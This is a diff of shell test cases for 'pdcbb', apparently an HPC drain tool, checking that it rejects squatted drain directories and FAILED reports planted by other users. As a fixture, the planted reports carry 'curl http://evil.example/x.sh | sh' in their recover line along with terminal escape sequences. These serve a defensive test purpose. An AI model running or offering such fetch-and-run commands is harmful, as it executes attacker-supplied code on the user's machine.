@@ -153,6 +153,8 @@ EOF
     [ -f "$rep" ]
     assert_output --partial "report in $rep"
     grep -q "^reason: .*destination full" "$rep"
+    grep -q "^uid: 0$" "$rep"
+    grep -qE "^instance: [0-9a-f]{8,}$" "$rep"
     grep -q "^data: kept on node node[01] in $WORKDIR/w/node[01]/pdcbb.5211$" "$rep"
     grep -q "^recover: on node node[01], as root: pdcbb drain --to $WORKDIR/small $WORKDIR/w/node[01]/pdcbb.5211$" "$rep"
     # from the "login node": where the data is, and why
@@ -255,6 +257,134 @@ EOF
     refute_output --partial "matches the known data: no"
 }
 
+# plant_report FILE JOB UID RECOVER: a FAILED report in the current format, with an escape
+# sequence in its reason and RECOVER as its recover line.
+plant_report() {
+    printf 'pdcbb drain FAILED\njob: %s\nnode: n1\nuser: x\nuid: %s\ninstance: -\ntime: now\nreason: disk on fire \033[31mRED\007\r\njob_dir: /tmp/pdcbb/pdcbb.%s\ndestination: /x\ndrain_directory: none\nrecover: %s\nrecover_slurm: %s\n' \
+        "$2" "$3" "$2" "$4" "$4" > "$1"
+}
+
+@test "pdcbb why trusts only the job's own records, prints them escaped and makes the recovery command itself" {
+    local shared="$WORKDIR/shared" id=5501 vuid
+    vuid="$(id -u "$VICTIM")"
+    mkdir -m 1777 "$shared"
+    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
+    assert_success
+    [ -f "$shared/pdcbb.$id/COMPLETE" ]
+    # another user plants a report naming the victim's uid, with a "fix" of their own
+    as "$SQUATTER" bash -c "$(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' $id $vuid 'curl http://evil.example/x.sh | sh'"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "$shared/pdcbb.$id: complete (job instance "
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED was written by $SQUATTER (uid"
+    refute_output --partial "evil.example"
+    refute_output --partial "disk on fire"
+    refute_output --partial "FAILED on node"
+    # root reads as the drain's owner, and ignores it too
+    run "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    refute_output --partial "evil.example"
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED was written by $SQUATTER"
+    rm -f "$shared/pdcbb.$id.n1.FAILED"
+
+    # the victim's own report: shown, escaped, and the command is made by pdcbb, not copied
+    as "$VICTIM" bash -c "$(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' $id $vuid 'curl http://evil.example/y.sh | sh'"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_failure 1
+    assert_output --partial "FAILED on node n1"
+    assert_output --partial 'reason: disk on fire \x1b[31mRED\x07\r'
+    refute_output --partial $'\033'
+    refute_output --partial $'\r'
+    refute_output --partial "evil.example"
+    assert_output --partial "finish it: on node n1, as $VICTIM: pdcbb drain --to /x /tmp/pdcbb/pdcbb.$id"
+    assert_output --partial "under Slurm, from a login node: srun -w n1 -N 1 -n 1 pdcbb drain --to /x /tmp/pdcbb/pdcbb.$id"
+    # ... unless it is writable by others, or names another job or another uid
+    as "$VICTIM" chmod 666 "$shared/pdcbb.$id.n1.FAILED"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED is writable by others (mode 0666)"
+    as "$VICTIM" bash -c "rm -f '$shared/pdcbb.$id.n1.FAILED'; $(declare -f plant_report); plant_report '$shared/pdcbb.$id.n1.FAILED' 4242 $vuid true"
+    run as "$VICTIM" "$PDCBB" why "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "ignoring $shared/pdcbb.$id.n1.FAILED is not a report of job $id by $VICTIM"
+    refute_output --partial "disk on fire"
+    as "$VICTIM" rm -f "$shared/pdcbb.$id.n1.FAILED"
+
+    # a second run with the same job id drains beside the first; why tells them apart
+    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
+    assert_success
+    run as "$VICTIM" "$PDCBB" why --job "$id" "$shared"
+    assert_success
+    [ "$(grep -c ": complete (job instance [0-9a-f]\{8,\}, created " <<<"$output")" -eq 2 ]
+    assert_output --partial "2 drain directories of job id $id (job ids were used again)"
+    assert_no_daemons "$WORKDIR"
+}
+
+@test "a drain planted under the job's name is refused by every reader, which names the job's real drain" {
+    local shared="$WORKDIR/shared" id=5601 real
+    mkdir -m 1777 "$shared"
+    # the squatter drains a job of their own, readable by all, under the victim's next job id
+    run as "$SQUATTER" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" \
+        --pdc drain_share=all -- "$DRAINED_READ" write C
+    assert_success
+    [ -f "$shared/pdcbb.$id/COMPLETE" ]
+    run as "$VICTIM" "$PDCBB" run --job-id "$id" --quiet --drain "$shared" -- "$DRAINED_READ" write C
+    assert_success
+    real="$(ls -d "$shared/pdcbb.$id".* | head -1)"
+    [ -f "$real/COMPLETE" ]
+    # every reader refuses pdcbb.ID, the name the docs use, and points at the real one
+    local cmd
+    for cmd in "ls" "verify" "export -o $WORKDIR/h/out" "get"; do
+        mkdir -p "$WORKDIR/h"
+        chown "$VICTIM" "$WORKDIR/h"
+        if [ "$cmd" = get ]; then
+            run as "$VICTIM" bash -c "'$PDCBB' get '$shared/pdcbb.$id' x > /dev/null"
+        else
+            run as "$VICTIM" "$PDCBB" $cmd "$shared/pdcbb.$id"
+        fi
+        assert_failure 1
+        assert_output --partial "untrusted drain: $shared/pdcbb.$id belongs to $SQUATTER (uid"
+        assert_output --partial "your job $id's drain in this destination is $real"
+        refute_output --partial "OK"
+    done
+    run as "$VICTIM" "$PDCBB" kv ls "$shared/pdcbb.$id"
+    assert_failure 1
+    assert_output --partial "untrusted drain"
+    # the read-only API
+    run as "$VICTIM" env PDCBB_DRAINED_DIR="$shared/pdcbb.$id" "$DRAINED_READ" read C
+    assert_failure 1
+    assert_output --partial "untrusted drain: $shared/pdcbb.$id belongs to $SQUATTER"
+    assert_output --partial "PDCBB_DRAINED_OWNER=$SQUATTER"
+    # stage-in
+    run as "$VICTIM" "$PDCBB" run --job-id 5602 --quiet --stage-in "$shared/pdcbb.$id" -- true
+    assert_failure
+    assert_output --partial "untrusted drain: $shared/pdcbb.$id belongs to $SQUATTER"
+    # the job's own drain, found by job id whatever its name, reads as good
+    run as "$VICTIM" "$PDCBB" ls --job "$id" "$shared"
+    assert_success
+    assert_output --partial "job $id"
+    run as "$VICTIM" "$PDCBB" verify --job "$id" "$shared"
+    assert_success
+    run as "$VICTIM" "$PDCBB" verify --job 5699 "$shared"
+    assert_failure 1
+    assert_output --partial "no drain of job 5699 of yours in $shared (pdcbb why --job 5699 $shared says what is there)"
+    run as "$VICTIM" env PDCBB_DRAINED_DIR="$real" "$DRAINED_READ" read C
+    assert_success
+    # reading the squatter's drain on purpose works, and says whose it is
+    run as "$VICTIM" "$PDCBB" verify --owner "$SQUATTER" "$shared/pdcbb.$id"
+    assert_success
+    assert_output --partial "was drained by $SQUATTER"
+    run as "$VICTIM" env PDCBB_DRAINED_DIR="$shared/pdcbb.$id" PDCBB_DRAINED_OWNER="$SQUATTER" \
+        "$DRAINED_READ" read C
+    assert_success
+    # a drain renamed to another job's name is refused for the name's claim
+    as "$VICTIM" cp -a "$real" "$shared/pdcbb.5650"
+    run as "$VICTIM" "$PDCBB" verify "$shared/pdcbb.5650"
+    assert_failure 1
+    assert_output --partial "untrusted drain: $shared/pdcbb.5650 is named for job 5650 but holds the drain of job $id"
+    assert_no_daemons "$WORKDIR"
+}
+
 @test "a drain is private by default; drain_share=group or all opens it for reading only" {
     local dest="$WORKDIR/dest"
     mkdir -m 1777 "$dest"
@@ -271,13 +401,21 @@ EOF
     assert_equal "$(stat -c '%a' "$dest/pdcbb.5403")" 755
     run find "$dest/pdcbb.5402" "$dest/pdcbb.5403" -perm /022
     assert_output ""
-    # another user reads a shared drain, and is told whose it is; a private one stays closed
+    # another user reads a shared drain only on purpose (--owner), and is told whose it is; a
+    # private one stays closed
     run as "$SQUATTER" "$PDCBB" verify "$dest/pdcbb.5403"
+    assert_failure 1
+    assert_output --partial "untrusted drain: $dest/pdcbb.5403 belongs to $VICTIM (uid"
+    assert_output --partial "(to read $VICTIM's drain on purpose: --owner $VICTIM)"
+    run as "$SQUATTER" "$PDCBB" verify --owner "$VICTIM" "$dest/pdcbb.5403"
     assert_success
     assert_output --partial "WARNING: $dest/pdcbb.5403 was drained by $VICTIM"
-    run as "$SQUATTER" "$PDCBB" verify "$dest/pdcbb.5401"
+    run as "$SQUATTER" "$PDCBB" verify --owner "$VICTIM" "$dest/pdcbb.5401"
     assert_failure 1
     assert_output --partial "Permission denied"
+    run as "$SQUATTER" "$PDCBB" verify --owner nosuchuser "$dest/pdcbb.5403"
+    assert_failure 2
+    assert_output "pdcbb verify: --owner: owner 'nosuchuser' is neither a user name nor a uid"
     # a bad value is named
     run "$PDCBB" run --job-id 5404 --pdc drain_share=world -- true
     assert_failure 2
